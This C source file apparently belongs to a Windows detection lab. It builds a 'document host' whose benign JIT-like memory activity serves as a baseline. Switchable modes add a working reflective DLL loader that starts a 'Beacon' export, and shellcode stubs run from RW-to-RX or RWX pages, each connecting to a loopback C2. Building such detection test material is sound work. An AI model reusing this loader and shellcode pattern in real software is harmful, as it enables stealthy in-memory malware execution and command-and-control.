/* "Document host": a program whose executable-memory behaviour has a baseline, and a trigger.
 *
 * Build-time switches (see record.py):
 *   WINLAB_MODE  0 benign      worker threads JIT small stubs: page-aligned RW allocations of
 *                              the program's usual sizes, written in place, flipped to R-X,
 *                              called (what a scripting engine in a document viewer does)
 *                1 reflective  the benign work, then "opening a document" runs a reflective
 *                              loader of our own: the embedded payload DLL is mapped by hand
 *                              (RW allocation of SizeOfImage, headers and sections written
 *                              with WriteProcessMemory, relocations, imports resolved with
 *                              LoadLibraryA/GetProcAddress, sections flipped to R-X), DllMain
 *                              called, and a thread started at its exported Beacon(), which
 *                              connects to the loopback C2
 *                2 shellcode   the benign work, then a shellcode stub: RW page, written,
 *                              flipped to R-X, thread into it; it calls back into a connect
 *                3 rwx         as 2 but one RWX allocation and no protection change
 *   WINLAB_SEED  varies the benign run (how many stubs each worker JITs, which sizes)
 */
#define WINLAB_IMPL
#include <winsock2.h>
#include "winlab.h"

#ifndef WINLAB_MODE
#define WINLAB_MODE 0
#endif
#ifndef WINLAB_SEED
#define WINLAB_SEED 1
#endif
#define WORKERS 3

#if WINLAB_MODE == 1
#include "payload_dll.h" /* unsigned char payload_dll[]; generated from payload.dll */
#endif

/* The program's usual JIT arena sizes: 64 KiB multiples, page aligned by VirtualAlloc. */
static const SIZE_T k_sizes[] = {0x10000, 0x20000, 0x10000, 0x40000};

static DWORD WINAPI jit_worker(LPVOID arg) {
    DWORD id = (DWORD)(ULONG_PTR)arg;
    DWORD count = 1 + (WINLAB_SEED + id) % 3;
    DWORD total = 0;
    for (DWORD k = 0; k < count; k++) {
        SIZE_T size = k_sizes[(WINLAB_SEED + id + k) % 4];
        unsigned char *arena = VirtualAlloc(NULL, size, MEM_COMMIT | MEM_RESERVE, PAGE_READWRITE);
        if (!arena) return 1;
        /* mov eax, imm32 ; ret */
        unsigned char stub[6] = {0xB8, (unsigned char)(id * 16 + k), 0, 0, 0, 0xC3};
        memcpy(arena, stub, sizeof stub);
        DWORD old = 0;
        VirtualProtect(arena, size, PAGE_EXECUTE_READ, &old);
        total += ((DWORD(*)(void))arena)();
    }
    return total;
}

static void benign_work(void) {
    HANDLE threads[WORKERS];
    for (DWORD i = 0; i < WORKERS; i++)
        threads[i] = CreateThread(NULL, 0, jit_worker, (LPVOID)(ULONG_PTR)i, 0, NULL);
    WaitForMultipleObjects(WORKERS, threads, TRUE, 5000);
    for (DWORD i = 0; i < WORKERS; i++) CloseHandle(threads[i]);
}

#if WINLAB_MODE == 2 || WINLAB_MODE == 3
/* What the stub calls back into: a connect to the loopback C2. */
static void c2_connect(void *unused) {
    (void)unused;
    WSADATA wsa;
    if (WSAStartup(MAKEWORD(2, 2), &wsa) != 0) return;
    SOCKET s = socket(AF_INET, SOCK_STREAM, IPPROTO_TCP);
    if (s == INVALID_SOCKET) return;
    struct sockaddr_in sa;
    memset(&sa, 0, sizeof sa);
    sa.sin_family = AF_INET;
    sa.sin_port = (unsigned short)(((WINLAB_C2_PORT & 0xff) << 8) | (WINLAB_C2_PORT >> 8));
    sa.sin_addr.s_addr = 0x0100007f;
    connect(s, (struct sockaddr *)&sa, sizeof sa);
    closesocket(s);
}

struct callback {
    void (*fn)(void *);
    void *arg;
};

/* sub rsp,0x28; mov rax,[rcx]; mov rcx,[rcx+8]; call rax; add rsp,0x28; xor eax,eax; ret */
static const unsigned char k_stub[] = {0x48, 0x83, 0xEC, 0x28, 0x48, 0x8B, 0x01, 0x48, 0x8B,
                                       0x49, 0x08, 0xFF, 0xD0, 0x48, 0x83, 0xC4, 0x28, 0x31,
                                       0xC0, 0xC3};

static void run_shellcode(void) {
    static struct callback cb = {c2_connect, NULL};
    SIZE_T written = 0;
#if WINLAB_MODE == 2
    unsigned char *mem = VirtualAlloc(NULL, 0x1000, MEM_COMMIT | MEM_RESERVE, PAGE_READWRITE);
    if (!mem) return;
    WriteProcessMemory(GetCurrentProcess(), mem, k_stub, sizeof k_stub, &written);
    DWORD old = 0;
    VirtualProtect(mem, 0x1000, PAGE_EXECUTE_READ, &old);
#else
    unsigned char *mem =
        VirtualAlloc(NULL, 0x1000, MEM_COMMIT | MEM_RESERVE, PAGE_EXECUTE_READWRITE);
    if (!mem) return;
    WriteProcessMemory(GetCurrentProcess(), mem, k_stub, sizeof k_stub, &written);
#endif
    HANDLE t = CreateThread(NULL, 0, (LPTHREAD_START_ROUTINE)mem, &cb, 0, NULL);
    if (t) {
        WaitForSingleObject(t, 5000);
        CloseHandle(t);
    }
}
#endif

#if WINLAB_MODE == 1
/* A reflective loader of our own: map payload_dll by hand and run it. */
static void reflective_load(void) {
    const unsigned char *raw = payload_dll;
    const IMAGE_DOS_HEADER *dos = (const IMAGE_DOS_HEADER *)raw;
    const IMAGE_NT_HEADERS64 *nt = (const IMAGE_NT_HEADERS64 *)(raw + dos->e_lfanew);
    SIZE_T image_size = nt->OptionalHeader.SizeOfImage;
    HANDLE self = GetCurrentProcess();
    SIZE_T written = 0;

    /* 1. allocate RW for the whole image */
    unsigned char *base = VirtualAlloc(NULL, image_size, MEM_COMMIT | MEM_RESERVE, PAGE_READWRITE);
    if (!base) return;

    /* 2. write headers and sections */
    WriteProcessMemory(self, base, raw, nt->OptionalHeader.SizeOfHeaders, &written);
    const IMAGE_SECTION_HEADER *sec = IMAGE_FIRST_SECTION(nt);
    for (WORD i = 0; i < nt->FileHeader.NumberOfSections; i++) {
        if (sec[i].SizeOfRawData)
            WriteProcessMemory(self, base + sec[i].VirtualAddress, raw + sec[i].PointerToRawData,
                               sec[i].SizeOfRawData, &written);
    }

    /* 3. relocations */
    ULONG_PTR delta = (ULONG_PTR)base - (ULONG_PTR)nt->OptionalHeader.ImageBase;
    const IMAGE_DATA_DIRECTORY *rdir =
        &nt->OptionalHeader.DataDirectory[IMAGE_DIRECTORY_ENTRY_BASERELOC];
    if (delta && rdir->Size) {
        unsigned char *p = base + rdir->VirtualAddress;
        unsigned char *end = p + rdir->Size;
        while (p < end) {
            IMAGE_BASE_RELOCATION *blk = (IMAGE_BASE_RELOCATION *)p;
            if (blk->SizeOfBlock < sizeof *blk) break;
            WORD *e = (WORD *)(blk + 1);
            DWORD n = (blk->SizeOfBlock - sizeof *blk) / sizeof(WORD);
            for (DWORD j = 0; j < n; j++) {
                if ((e[j] >> 12) == IMAGE_REL_BASED_DIR64)
                    *(ULONG_PTR *)(base + blk->VirtualAddress + (e[j] & 0xfff)) += delta;
            }
            p += blk->SizeOfBlock;
        }
    }

    /* 4. imports */
    const IMAGE_DATA_DIRECTORY *idir =
        &nt->OptionalHeader.DataDirectory[IMAGE_DIRECTORY_ENTRY_IMPORT];
    if (idir->Size) {
        IMAGE_IMPORT_DESCRIPTOR *imp = (IMAGE_IMPORT_DESCRIPTOR *)(base + idir->VirtualAddress);
        for (; imp->Name; imp++) {
            HMODULE mod = LoadLibraryA((const char *)(base + imp->Name));
            if (!mod) continue;
            IMAGE_THUNK_DATA64 *orig = (IMAGE_THUNK_DATA64 *)(base + (imp->OriginalFirstThunk
                                                                         ? imp->OriginalFirstThunk
                                                                         : imp->FirstThunk));
            IMAGE_THUNK_DATA64 *iat = (IMAGE_THUNK_DATA64 *)(base + imp->FirstThunk);
            for (; orig->u1.AddressOfData; orig++, iat++) {
                FARPROC fn;
                if (IMAGE_SNAP_BY_ORDINAL64(orig->u1.Ordinal))
                    fn = GetProcAddress(mod, (LPCSTR)(ULONG_PTR)IMAGE_ORDINAL64(orig->u1.Ordinal));
                else
                    fn = GetProcAddress(
                        mod, ((IMAGE_IMPORT_BY_NAME *)(base + orig->u1.AddressOfData))->Name);
                iat->u1.Function = (ULONGLONG)(ULONG_PTR)fn;
            }
        }
    }

    /* 5. flip code sections to R-X */
    for (WORD i = 0; i < nt->FileHeader.NumberOfSections; i++) {
        if (sec[i].Characteristics & IMAGE_SCN_MEM_EXECUTE) {
            DWORD old = 0;
            SIZE_T len = sec[i].Misc.VirtualSize ? sec[i].Misc.VirtualSize : sec[i].SizeOfRawData;
            VirtualProtect(base + sec[i].VirtualAddress, len, PAGE_EXECUTE_READ, &old);
        }
    }

    /* 6. DllMain, then a thread at the exported Beacon */
    typedef BOOL(WINAPI * dllmain_t)(HINSTANCE, DWORD, LPVOID);
    ((dllmain_t)(base + nt->OptionalHeader.AddressOfEntryPoint))((HINSTANCE)base,
                                                                   DLL_PROCESS_ATTACH, NULL);
    const IMAGE_DATA_DIRECTORY *edir =
        &nt->OptionalHeader.DataDirectory[IMAGE_DIRECTORY_ENTRY_EXPORT];
    if (!edir->Size) return;
    IMAGE_EXPORT_DIRECTORY *exp = (IMAGE_EXPORT_DIRECTORY *)(base + edir->VirtualAddress);
    DWORD *names = (DWORD *)(base + exp->AddressOfNames);
    WORD *ords = (WORD *)(base + exp->AddressOfNameOrdinals);
    DWORD *funcs = (DWORD *)(base + exp->AddressOfFunctions);
    for (DWORD i = 0; i < exp->NumberOfNames; i++) {
        const char *n = (const char *)(base + names[i]);
        if (n[0] == 'B' && n[1] == 'e' && n[2] == 'a' && n[3] == 'c' && n[4] == 'o' &&
            n[5] == 'n' && n[6] == 0) {
            HANDLE t = CreateThread(NULL, 0, (LPTHREAD_START_ROUTINE)(base + funcs[ords[i]]),
                                    NULL, 0, NULL);
            if (t) {
                WaitForSingleObject(t, 5000);
                CloseHandle(t);
            }
            return;
        }
    }
}
#endif

void entry(void) {
    benign_work();
#if WINLAB_MODE == 1
    reflective_load();
#elif WINLAB_MODE == 2 || WINLAB_MODE == 3
    run_shellcode();
#endif
    ExitProcess(0);
}
